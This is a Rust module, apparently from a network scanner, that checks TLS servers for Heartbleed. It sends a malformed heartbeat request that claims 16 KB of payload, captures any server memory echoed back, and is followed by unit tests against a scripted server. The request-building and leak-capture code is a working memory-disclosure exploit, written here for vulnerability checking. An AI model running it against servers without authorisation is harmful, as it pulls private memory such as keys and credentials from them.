// Heartbeat secure layer - hello-phase TLS client that can send heartbeat requests
//
// The handshake offers the heartbeat extension and stops once the server's
// hello flight (ServerHello .. ServerHelloDone) has been read. No keys are
// derived, so heartbeat records go out in the clear, the way a memory
// disclosure check needs them. Application data is unavailable on this layer.

use super::{HandshakeLog, HeartbleedLog, SecureConfig, SecureConnector, SecureTransport};
use crate::constants::{HEARTBEAT_CLAIMED_LENGTH, TLS_READ_CHUNK};
use crate::error::SecureError;
use crate::transport::Transport;
use async_trait::async_trait;
use rustls::{CipherSuite, ProtocolVersion};
use std::io;
use std::net::{IpAddr, SocketAddr};
use tokio::time::Instant;
use tracing::debug;

const CONTENT_ALERT: u8 = 0x15;
const CONTENT_HANDSHAKE: u8 = 0x16;
const CONTENT_HEARTBEAT: u8 = 0x18;

const HANDSHAKE_CLIENT_HELLO: u8 = 0x01;
const HANDSHAKE_SERVER_HELLO: u8 = 0x02;
const HANDSHAKE_CERTIFICATE: u8 = 0x0b;
const HANDSHAKE_SERVER_HELLO_DONE: u8 = 0x0e;

const EXTENSION_SERVER_NAME: u16 = 0x0000;
const EXTENSION_SUPPORTED_GROUPS: u16 = 0x000a;
const EXTENSION_EC_POINT_FORMATS: u16 = 0x000b;
const EXTENSION_SIGNATURE_ALGORITHMS: u16 = 0x000d;
const EXTENSION_HEARTBEAT: u16 = 0x000f;
const EXTENSION_ALPN: u16 = 0x0010;

const HEARTBEAT_REQUEST: u8 = 0x01;
const HEARTBEAT_RESPONSE: u8 = 0x02;

/// Minimum padding RFC 6520 requires on a well-formed heartbeat message
const HEARTBEAT_PADDING: usize = 16;

/// Payload of the well-formed request sent after the malformed one
///
/// A patched peer drops the malformed request and answers this one, so its
/// echo marks the end of the exchange without waiting for the deadline.
const HEARTBEAT_FENCE: &[u8] = b"bannerrun-fence";

const MAX_RECORD_LEN: usize = 16384 + 2048;

const CLIENT_VERSION: u16 = 0x0303;

const CIPHER_SUITES: &[u16] = &[
    0xc02f, 0xc030, 0xc02b, 0xc02c, 0xc013, 0xc014, 0xc009, 0xc00a, 0x009c, 0x009d, 0x002f,
    0x0035, 0x0039, 0x0038, 0x0033, 0x000a,
];

const SIGNATURE_ALGORITHMS: &[u16] = &[
    0x0401, 0x0501, 0x0601, 0x0403, 0x0503, 0x0603, 0x0201, 0x0203,
];

const SUPPORTED_GROUPS: &[u16] = &[0x001d, 0x0017, 0x0018];

/// Secure-layer factory for Heartbleed checks
#[derive(Debug, Clone, Copy, Default)]
pub struct HeartbeatConnector;

impl HeartbeatConnector {
    pub fn new() -> Self {
        Self
    }
}

impl SecureConnector for HeartbeatConnector {
    fn client(&self, raw: Box<dyn Transport>, config: &SecureConfig) -> Box<dyn SecureTransport> {
        Box::new(HeartbeatTransport::new(raw, config))
    }
}

fn malformed(details: impl Into<String>) -> SecureError {
    SecureError::Malformed(details.into())
}

fn closed(details: &str) -> SecureError {
    SecureError::Io(io::Error::new(io::ErrorKind::UnexpectedEof, details.to_string()))
}

fn push_u16(buf: &mut Vec<u8>, value: u16) {
    buf.extend_from_slice(&value.to_be_bytes());
}

fn push_u24(buf: &mut Vec<u8>, value: usize) {
    buf.extend_from_slice(&(value as u32).to_be_bytes()[1..]);
}

fn push_vec16(buf: &mut Vec<u8>, data: &[u8]) {
    push_u16(buf, data.len() as u16);
    buf.extend_from_slice(data);
}

fn push_extension(buf: &mut Vec<u8>, kind: u16, data: &[u8]) {
    push_u16(buf, kind);
    push_vec16(buf, data);
}

fn u16_list(values: &[u16]) -> Vec<u8> {
    values.iter().flat_map(|v| v.to_be_bytes()).collect()
}

/// Build a ClientHello record that offers the heartbeat extension
fn client_hello(config: &SecureConfig) -> Result<Vec<u8>, SecureError> {
    let mut random = [0u8; 32];
    rustls::crypto::ring::default_provider()
        .secure_random
        .fill(&mut random)
        .map_err(|_| SecureError::Tls(rustls::Error::FailedToGetRandomBytes))?;

    let mut extensions = Vec::new();
    if let Some(name) = config
        .server_name
        .as_deref()
        .filter(|name| name.parse::<IpAddr>().is_err())
    {
        let mut entry = vec![0x00];
        push_vec16(&mut entry, name.as_bytes());
        let mut list = Vec::new();
        push_vec16(&mut list, &entry);
        push_extension(&mut extensions, EXTENSION_SERVER_NAME, &list);
    }

    let mut groups = Vec::new();
    push_vec16(&mut groups, &u16_list(SUPPORTED_GROUPS));
    push_extension(&mut extensions, EXTENSION_SUPPORTED_GROUPS, &groups);
    // uncompressed points only
    push_extension(&mut extensions, EXTENSION_EC_POINT_FORMATS, &[0x01, 0x00]);
    let mut schemes = Vec::new();
    push_vec16(&mut schemes, &u16_list(SIGNATURE_ALGORITHMS));
    push_extension(&mut extensions, EXTENSION_SIGNATURE_ALGORITHMS, &schemes);

    if !config.alpn.is_empty() {
        let mut protocols = Vec::new();
        for proto in &config.alpn {
            protocols.push(proto.len() as u8);
            protocols.extend_from_slice(proto.as_bytes());
        }
        let mut list = Vec::new();
        push_vec16(&mut list, &protocols);
        push_extension(&mut extensions, EXTENSION_ALPN, &list);
    }

    // peer_allowed_to_send
    push_extension(&mut extensions, EXTENSION_HEARTBEAT, &[0x01]);

    let mut body = Vec::new();
    push_u16(&mut body, CLIENT_VERSION);
    body.extend_from_slice(&random);
    body.push(0x00);
    push_vec16(&mut body, &u16_list(CIPHER_SUITES));
    body.extend_from_slice(&[0x01, 0x00]);
    push_vec16(&mut body, &extensions);

    let mut message = vec![HANDSHAKE_CLIENT_HELLO];
    push_u24(&mut message, body.len());
    message.extend_from_slice(&body);

    let mut record = vec![CONTENT_HANDSHAKE, 0x03, 0x01];
    push_vec16(&mut record, &message);
    Ok(record)
}

/// Heartbeat request record claiming `claimed` payload bytes
fn heartbeat_record(version: u16, claimed: u16, payload: &[u8], padding: usize) -> Vec<u8> {
    let mut message = vec![HEARTBEAT_REQUEST];
    push_u16(&mut message, claimed);
    message.extend_from_slice(payload);
    message.resize(message.len() + padding, 0);

    let mut record = vec![CONTENT_HEARTBEAT];
    push_u16(&mut record, version);
    push_vec16(&mut record, &message);
    record
}

/// Bounds-checked reader over a handshake body
struct Cursor<'a> {
    data: &'a [u8],
}

impl<'a> Cursor<'a> {
    fn new(data: &'a [u8]) -> Self {
        Self { data }
    }

    fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SecureError> {
        if self.data.len() < n {
            return Err(malformed("truncated handshake message"));
        }
        let (head, rest) = self.data.split_at(n);
        self.data = rest;
        Ok(head)
    }

    fn u8(&mut self) -> Result<u8, SecureError> {
        Ok(self.take(1)?[0])
    }

    fn u16(&mut self) -> Result<u16, SecureError> {
        let bytes = self.take(2)?;
        Ok(u16::from_be_bytes([bytes[0], bytes[1]]))
    }

    fn u24(&mut self) -> Result<usize, SecureError> {
        let bytes = self.take(3)?;
        Ok(u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize)
    }
}

/// Fields of the ServerHello this layer reports
#[derive(Debug, Clone, PartialEq, Eq)]
struct ServerHello {
    version: u16,
    cipher_suite: u16,
    heartbeat: bool,
    alpn_protocol: Option<String>,
}

impl ServerHello {
    fn parse(body: &[u8]) -> Result<Self, SecureError> {
        let mut cursor = Cursor::new(body);
        let version = cursor.u16()?;
        cursor.take(32)?;
        let session_id = cursor.u8()? as usize;
        cursor.take(session_id)?;
        let cipher_suite = cursor.u16()?;
        cursor.u8()?;

        let mut hello = Self {
            version,
            cipher_suite,
            heartbeat: false,
            alpn_protocol: None,
        };
        if cursor.is_empty() {
            return Ok(hello);
        }

        let length = cursor.u16()? as usize;
        let mut extensions = Cursor::new(cursor.take(length)?);
        while !extensions.is_empty() {
            let kind = extensions.u16()?;
            let length = extensions.u16()? as usize;
            let data = extensions.take(length)?;
            match kind {
                EXTENSION_HEARTBEAT => hello.heartbeat = true,
                EXTENSION_ALPN => {
                    let mut alpn = Cursor::new(data);
                    alpn.u16()?;
                    let length = alpn.u8()? as usize;
                    hello.alpn_protocol =
                        Some(String::from_utf8_lossy(alpn.take(length)?).into_owned());
                }
                _ => {}
            }
        }
        Ok(hello)
    }
}

fn parse_certificates(body: &[u8]) -> Result<Vec<Vec<u8>>, SecureError> {
    let mut cursor = Cursor::new(body);
    let length = cursor.u24()?;
    let mut list = Cursor::new(cursor.take(length)?);
    let mut certificates = Vec::new();
    while !list.is_empty() {
        let length = list.u24()?;
        certificates.push(list.take(length)?.to_vec());
    }
    Ok(certificates)
}

fn alert_error(body: &[u8]) -> SecureError {
    match body {
        [level, description, ..] => SecureError::Alert {
            level: *level,
            description: *description,
        },
        _ => malformed("truncated alert"),
    }
}

/// One plaintext TLS record
#[derive(Debug)]
struct Record {
    content_type: u8,
    body: Vec<u8>,
}

/// Splits the raw byte stream into TLS records
#[derive(Debug, Default)]
struct RecordReader {
    pending: Vec<u8>,
}

impl RecordReader {
    /// Next complete record, or `None` on a clean EOF between records
    async fn next(&mut self, wire: &mut dyn Transport) -> Result<Option<Record>, SecureError> {
        loop {
            if let Some(record) = self.take()? {
                return Ok(Some(record));
            }

            let mut chunk = vec![0u8; TLS_READ_CHUNK];
            let n = wire.read(&mut chunk).await?;
            if n == 0 {
                if self.pending.is_empty() {
                    return Ok(None);
                }
                return Err(closed("Connection closed mid-record"));
            }
            self.pending.extend_from_slice(&chunk[..n]);
        }
    }

    fn take(&mut self) -> Result<Option<Record>, SecureError> {
        let Some(&content_type) = self.pending.first() else {
            return Ok(None);
        };
        if !(0x14..=0x18).contains(&content_type) {
            return Err(malformed(format!(
                "unexpected record type 0x{:02x}",
                content_type
            )));
        }
        if self.pending.len() < 5 {
            return Ok(None);
        }

        let length = u16::from_be_bytes([self.pending[3], self.pending[4]]) as usize;
        if length > MAX_RECORD_LEN {
            return Err(malformed(format!("record length {} exceeds limit", length)));
        }
        if self.pending.len() < 5 + length {
            return Ok(None);
        }

        let body = self.pending[5..5 + length].to_vec();
        self.pending.drain(..5 + length);
        Ok(Some(Record { content_type, body }))
    }
}

/// Hello-phase TLS client over a boxed raw transport
///
/// `handshake` succeeds once ServerHelloDone arrives; `HandshakeLog::complete`
/// reports that point. Reads and writes are refused with
/// `SecureError::NoSession`.
pub struct HeartbeatTransport {
    inner: Box<dyn Transport>,
    config: SecureConfig,
    records: RecordReader,
    hello: Option<ServerHello>,
    certificates: Vec<Vec<u8>>,
    established: bool,
    log: HeartbleedLog,
}

impl HeartbeatTransport {
    pub fn new(inner: Box<dyn Transport>, config: &SecureConfig) -> Self {
        Self {
            inner,
            config: config.clone(),
            records: RecordReader::default(),
            hello: None,
            certificates: Vec::new(),
            established: false,
            log: HeartbleedLog::default(),
        }
    }

    /// Read handshake records until ServerHelloDone
    async fn read_server_flight(&mut self) -> Result<(), SecureError> {
        let mut handshake = Vec::new();

        loop {
            let record = self
                .records
                .next(self.inner.as_mut())
                .await?
                .ok_or_else(|| closed("Connection closed during TLS handshake"))?;

            match record.content_type {
                CONTENT_HANDSHAKE => handshake.extend_from_slice(&record.body),
                CONTENT_ALERT => return Err(alert_error(&record.body)),
                other => {
                    return Err(malformed(format!(
                        "unexpected record type 0x{:02x} during handshake",
                        other
                    )));
                }
            }

            while handshake.len() >= 4 {
                let length = Cursor::new(&handshake[1..4]).u24()?;
                if handshake.len() < 4 + length {
                    break;
                }
                let message: Vec<u8> = handshake.drain(..4 + length).collect();
                let body = &message[4..];

                match message[0] {
                    HANDSHAKE_SERVER_HELLO => self.hello = Some(ServerHello::parse(body)?),
                    HANDSHAKE_CERTIFICATE => self.certificates = parse_certificates(body)?,
                    HANDSHAKE_SERVER_HELLO_DONE if self.hello.is_some() => return Ok(()),
                    HANDSHAKE_SERVER_HELLO_DONE => {
                        return Err(malformed("ServerHelloDone before ServerHello"));
                    }
                    _ => {}
                }
            }
        }
    }

    /// Classify the replies to a malformed request followed by the fence
    async fn await_heartbeat(&mut self, payload: &[u8]) -> Result<usize, SecureError> {
        loop {
            let Some(record) = self.records.next(self.inner.as_mut()).await? else {
                debug!("Peer closed after the heartbeat request");
                return Ok(0);
            };

            match record.content_type {
                CONTENT_HEARTBEAT => {
                    let mut cursor = Cursor::new(&record.body);
                    if cursor.u8()? != HEARTBEAT_RESPONSE {
                        continue;
                    }
                    let claimed = cursor.u16()? as usize;
                    let echoed = cursor.data;

                    if claimed == HEARTBEAT_FENCE.len() && echoed.starts_with(HEARTBEAT_FENCE) {
                        debug!("Peer answered only the well-formed heartbeat");
                        return Ok(0);
                    }
                    if echoed.len() > payload.len() {
                        let end = claimed.clamp(payload.len(), echoed.len());
                        self.log.vulnerable = true;
                        self.log.leaked = echoed[payload.len()..end].to_vec();
                        return Err(SecureError::Heartbleed);
                    }
                }
                CONTENT_ALERT => {
                    debug!("Peer rejected the heartbeat request with an alert");
                    return Ok(0);
                }
                _ => {}
            }
        }
    }
}

#[async_trait]
impl Transport for HeartbeatTransport {
    async fn read(&mut self, _buf: &mut [u8]) -> io::Result<usize> {
        if !self.established {
            return Err(SecureError::NotEstablished.into());
        }
        Err(SecureError::NoSession.into())
    }

    async fn write(&mut self, _buf: &[u8]) -> io::Result<usize> {
        if !self.established {
            return Err(SecureError::NotEstablished.into());
        }
        Err(SecureError::NoSession.into())
    }

    async fn close(&mut self) -> io::Result<()> {
        self.inner.close().await
    }

    fn local_addr(&self) -> Option<SocketAddr> {
        self.inner.local_addr()
    }

    fn remote_addr(&self) -> Option<SocketAddr> {
        self.inner.remote_addr()
    }

    fn set_read_deadline(&mut self, deadline: Option<Instant>) {
        self.inner.set_read_deadline(deadline);
    }

    fn set_write_deadline(&mut self, deadline: Option<Instant>) {
        self.inner.set_write_deadline(deadline);
    }
}

#[async_trait]
impl SecureTransport for HeartbeatTransport {
    async fn handshake(&mut self) -> Result<(), SecureError> {
        let hello = client_hello(&self.config)?;
        self.inner.write(&hello).await?;
        self.read_server_flight().await?;

        debug!(
            "Server hello received: {:?}, heartbeat offered: {}",
            self.hello.as_ref().map(|h| ProtocolVersion::from(h.version)),
            self.hello.as_ref().is_some_and(|h| h.heartbeat)
        );
        self.established = true;
        Ok(())
    }

    fn handshake_log(&self) -> HandshakeLog {
        let Some(hello) = self.hello.as_ref() else {
            return HandshakeLog::default();
        };

        HandshakeLog {
            complete: self.established,
            version: Some(format!("{:?}", ProtocolVersion::from(hello.version))),
            cipher_suite: Some(format!("{:?}", CipherSuite::from(hello.cipher_suite))),
            alpn_protocol: hello.alpn_protocol.clone(),
            server_certificates: self.certificates.clone(),
        }
    }

    async fn check_heartbleed(&mut self, payload: &[u8]) -> Result<usize, SecureError> {
        let version = match self.hello.as_ref() {
            Some(hello) if self.established => {
                if !hello.heartbeat {
                    self.log = HeartbleedLog::default();
                    return Err(SecureError::HeartbeatUnsupported {
                        details: "server did not negotiate the heartbeat extension".to_string(),
                    });
                }
                hello.version
            }
            _ => return Err(SecureError::NotEstablished),
        };
        if payload.len() >= HEARTBEAT_CLAIMED_LENGTH as usize {
            return Err(SecureError::Io(io::Error::new(
                io::ErrorKind::InvalidInput,
                "heartbeat payload must be shorter than the claimed length",
            )));
        }

        self.log = HeartbleedLog {
            heartbeat_enabled: true,
            ..Default::default()
        };

        let mut request = heartbeat_record(version, HEARTBEAT_CLAIMED_LENGTH, payload, 0);
        request.extend_from_slice(&heartbeat_record(
            version,
            HEARTBEAT_FENCE.len() as u16,
            HEARTBEAT_FENCE,
            HEARTBEAT_PADDING,
        ));
        self.inner.write(&request).await?;

        self.await_heartbeat(payload).await
    }

    fn heartbleed_log(&self) -> HeartbleedLog {
        self.log.clone()
    }
}

/// Scripted server side of the hello phase, shared with the grab tests
#[cfg(test)]
pub(crate) mod scripted {
    use super::*;
    use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

    pub const CERTIFICATE: &[u8] = &[0x30, 0x82, 0x01, 0x0a];

    /// ServerHello + Certificate + ServerHelloDone in one handshake record
    pub fn server_flight(heartbeat: bool) -> Vec<u8> {
        let mut hello = Vec::new();
        push_u16(&mut hello, 0x0303);
        hello.extend_from_slice(&[0x11; 32]);
        hello.push(0x00);
        push_u16(&mut hello, 0xc02f);
        hello.push(0x00);
        let mut extensions = Vec::new();
        if heartbeat {
            push_extension(&mut extensions, EXTENSION_HEARTBEAT, &[0x01]);
        }
        push_vec16(&mut hello, &extensions);

        let mut chain = Vec::new();
        push_u24(&mut chain, CERTIFICATE.len());
        chain.extend_from_slice(CERTIFICATE);
        let mut certificate = Vec::new();
        push_u24(&mut certificate, chain.len());
        certificate.extend_from_slice(&chain);

        let mut messages = Vec::new();
        for (kind, body) in [
            (HANDSHAKE_SERVER_HELLO, hello),
            (HANDSHAKE_CERTIFICATE, certificate),
            (HANDSHAKE_SERVER_HELLO_DONE, Vec::new()),
        ] {
            messages.push(kind);
            push_u24(&mut messages, body.len());
            messages.extend_from_slice(&body);
        }

        let mut record = vec![CONTENT_HANDSHAKE, 0x03, 0x03];
        push_vec16(&mut record, &messages);
        record
    }

    /// Heartbeat response record echoing `claimed` and `data`
    pub fn heartbeat_response(claimed: u16, data: &[u8]) -> Vec<u8> {
        let mut message = vec![HEARTBEAT_RESPONSE];
        push_u16(&mut message, claimed);
        message.extend_from_slice(data);
        let mut record = vec![CONTENT_HEARTBEAT, 0x03, 0x03];
        push_vec16(&mut record, &message);
        record
    }

    /// Answer to the fence request, as a patched server sends it
    pub fn fence_response() -> Vec<u8> {
        let mut data = HEARTBEAT_FENCE.to_vec();
        data.resize(data.len() + HEARTBEAT_PADDING, 0);
        heartbeat_response(HEARTBEAT_FENCE.len() as u16, &data)
    }

    pub async fn read_record<S: AsyncRead + Unpin>(stream: &mut S) -> (u8, Vec<u8>) {
        let mut header = [0u8; 5];
        stream.read_exact(&mut header).await.unwrap();
        let length = u16::from_be_bytes([header[3], header[4]]) as usize;
        let mut body = vec![0u8; length];
        stream.read_exact(&mut body).await.unwrap();
        (header[0], body)
    }

    /// Read the ClientHello, send the flight, then read both heartbeat records
    ///
    /// Returns the malformed request record so tests can inspect it.
    pub async fn serve_hello<S: AsyncRead + AsyncWrite + Unpin>(
        stream: &mut S,
        heartbeat: bool,
    ) -> Vec<u8> {
        let (kind, _) = read_record(stream).await;
        assert_eq!(kind, CONTENT_HANDSHAKE);
        stream.write_all(&server_flight(heartbeat)).await.unwrap();
        if !heartbeat {
            return Vec::new();
        }

        let (kind, malformed) = read_record(stream).await;
        assert_eq!(kind, CONTENT_HEARTBEAT);
        let (kind, _fence) = read_record(stream).await;
        assert_eq!(kind, CONTENT_HEARTBEAT);
        malformed
    }
}

#[cfg(test)]
mod tests {
    use super::scripted::*;
    use super::*;
    use crate::transport::DeadlineStream;
    use std::time::Duration;
    use tokio::io::{AsyncWriteExt, DuplexStream};

    fn connect(config: &SecureConfig) -> (HeartbeatTransport, DuplexStream) {
        let (client, server) = tokio::io::duplex(64 * 1024);
        let mut raw = DeadlineStream::new(client, None, Some("192.0.2.10:443".parse().unwrap()));
        raw.set_read_deadline(Some(Instant::now() + Duration::from_secs(5)));
        (HeartbeatTransport::new(Box::new(raw), config), server)
    }

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn test_malformed_request_layout() {
        // type, TLS 1.2, length 3, request, claimed 0x4000
        assert_eq!(
            heartbeat_record(0x0303, HEARTBEAT_CLAIMED_LENGTH, &[], 0),
            vec![0x18, 0x03, 0x03, 0x00, 0x03, 0x01, 0x40, 0x00]
        );
    }

    #[test]
    fn test_client_hello_offers_heartbeat_and_sni() {
        let config = SecureConfig {
            server_name: Some("mx.example".to_string()),
            alpn: vec!["smtp".to_string()],
            ..Default::default()
        };
        let hello = client_hello(&config).unwrap();

        assert_eq!(&hello[..3], &[0x16, 0x03, 0x01]);
        assert_eq!(hello.len(), 5 + u16::from_be_bytes([hello[3], hello[4]]) as usize);
        assert!(contains(&hello, &[0x00, 0x0f, 0x00, 0x01, 0x01]));
        assert!(contains(&hello, b"mx.example"));
        assert!(contains(&hello, b"\x04smtp"));
    }

    #[test]
    fn test_client_hello_skips_sni_for_ip_literal() {
        let config = SecureConfig {
            server_name: Some("192.0.2.10".to_string()),
            ..Default::default()
        };
        let hello = client_hello(&config).unwrap();
        assert!(!contains(&hello, b"192.0.2.10"));
    }

    #[test]
    fn test_server_hello_without_extensions() {
        let mut body = vec![0x03, 0x01];
        body.extend_from_slice(&[0u8; 32]);
        body.extend_from_slice(&[0x00, 0x00, 0x2f, 0x00]);

        let hello = ServerHello::parse(&body).unwrap();
        assert_eq!(hello.version, 0x0301);
        assert_eq!(hello.cipher_suite, 0x002f);
        assert!(!hello.heartbeat);

        assert!(ServerHello::parse(&body[..10]).is_err());
    }

    #[tokio::test]
    async fn test_handshake_reads_server_flight() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            let (kind, _) = read_record(&mut server).await;
            assert_eq!(kind, 0x16);
            // split across writes to exercise reassembly
            let flight = server_flight(true);
            server.write_all(&flight[..7]).await.unwrap();
            server.write_all(&flight[7..]).await.unwrap();
            server
        });

        tls.handshake().await.unwrap();
        let _server = peer.await.unwrap();

        let log = tls.handshake_log();
        assert!(log.complete);
        assert_eq!(log.version.as_deref(), Some("TLSv1_2"));
        assert_eq!(
            log.cipher_suite.as_deref(),
            Some("TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256")
        );
        assert_eq!(log.server_certificates, vec![CERTIFICATE.to_vec()]);
    }

    #[tokio::test]
    async fn test_leaking_peer_is_reported() {
        let (mut tls, mut server) = connect(&SecureConfig::default());
        let leak = b"secret=hunter2".to_vec();

        let reply = leak.clone();
        let peer = tokio::spawn(async move {
            let request = serve_hello(&mut server, true).await;
            let mut echoed = b"abc".to_vec();
            echoed.extend_from_slice(&reply);
            server
                .write_all(&heartbeat_response(HEARTBEAT_CLAIMED_LENGTH, &echoed))
                .await
                .unwrap();
            (request, server)
        });

        tls.handshake().await.unwrap();
        let err = tls.check_heartbleed(b"abc").await.unwrap_err();
        let (request, _server) = peer.await.unwrap();

        assert!(matches!(err, SecureError::Heartbleed));
        assert_eq!(request, vec![0x01, 0x40, 0x00, b'a', b'b', b'c']);
        let log = tls.heartbleed_log();
        assert!(log.heartbeat_enabled);
        assert!(log.vulnerable);
        assert_eq!(log.leaked, leak);
    }

    #[tokio::test]
    async fn test_patched_peer_answers_only_the_fence() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            serve_hello(&mut server, true).await;
            server.write_all(&fence_response()).await.unwrap();
            server
        });

        tls.handshake().await.unwrap();
        assert_eq!(tls.check_heartbleed(b"abc").await.unwrap(), 0);
        let _server = peer.await.unwrap();

        let log = tls.heartbleed_log();
        assert!(log.heartbeat_enabled);
        assert!(!log.vulnerable);
        assert!(log.leaked.is_empty());
    }

    #[tokio::test]
    async fn test_alert_after_request_is_clean() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            serve_hello(&mut server, true).await;
            // fatal unexpected_message
            server.write_all(&[0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x0a]).await.unwrap();
            server
        });

        tls.handshake().await.unwrap();
        assert_eq!(tls.check_heartbleed(b"abc").await.unwrap(), 0);
        let _server = peer.await.unwrap();
        assert!(!tls.heartbleed_log().vulnerable);
    }

    #[tokio::test]
    async fn test_peer_without_extension_is_unsupported() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            serve_hello(&mut server, false).await;
            server
        });

        tls.handshake().await.unwrap();
        let mut server = peer.await.unwrap();

        let err = tls.check_heartbleed(b"abc").await.unwrap_err();
        assert!(matches!(err, SecureError::HeartbeatUnsupported { .. }));
        assert!(!tls.heartbleed_log().heartbeat_enabled);

        // nothing was sent after the hello
        tls.close().await.unwrap();
        let mut rest = Vec::new();
        tokio::io::AsyncReadExt::read_to_end(&mut server, &mut rest)
            .await
            .unwrap();
        assert!(rest.is_empty());
    }

    #[tokio::test]
    async fn test_handshake_alert_is_reported() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            read_record(&mut server).await;
            // fatal handshake_failure
            server.write_all(&[0x15, 0x03, 0x01, 0x00, 0x02, 0x02, 0x28]).await.unwrap();
            server
        });

        let err = tls.handshake().await.unwrap_err();
        let _server = peer.await.unwrap();
        assert!(matches!(
            err,
            SecureError::Alert {
                level: 2,
                description: 0x28
            }
        ));
        assert!(!tls.handshake_log().complete);
    }

    #[tokio::test]
    async fn test_plaintext_reply_is_malformed() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let peer = tokio::spawn(async move {
            read_record(&mut server).await;
            server.write_all(b"554 no tls here\r\n").await.unwrap();
            server
        });

        let err = tls.handshake().await.unwrap_err();
        let _server = peer.await.unwrap();
        assert!(matches!(err, SecureError::Malformed(_)));
    }

    #[tokio::test]
    async fn test_application_data_is_refused() {
        let (mut tls, mut server) = connect(&SecureConfig::default());

        let mut buf = [0u8; 8];
        assert!(matches!(
            tls.check_heartbleed(b"x").await,
            Err(SecureError::NotEstablished)
        ));

        let peer = tokio::spawn(async move {
            serve_hello(&mut server, false).await;
            server
        });
        tls.handshake().await.unwrap();
        let _server = peer.await.unwrap();

        let err = tls.read(&mut buf).await.unwrap_err();
        let inner = err.get_ref().and_then(|e| e.downcast_ref::<SecureError>());
        assert!(matches!(inner, Some(SecureError::NoSession)));
        assert!(tls.write(b"HELP\r\n").await.is_err());
    }
}
